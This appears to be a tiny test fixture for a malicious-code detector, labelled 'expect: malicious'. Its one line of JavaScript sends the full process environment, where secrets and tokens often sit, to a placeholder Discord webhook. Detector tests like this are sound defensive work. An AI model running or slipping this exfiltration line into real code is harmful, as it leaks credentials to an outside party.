// expect: malicious
fetch('https://discord.example/api/webhooks/1/x', {method: 'POST', body: JSON.stringify(process.env)})
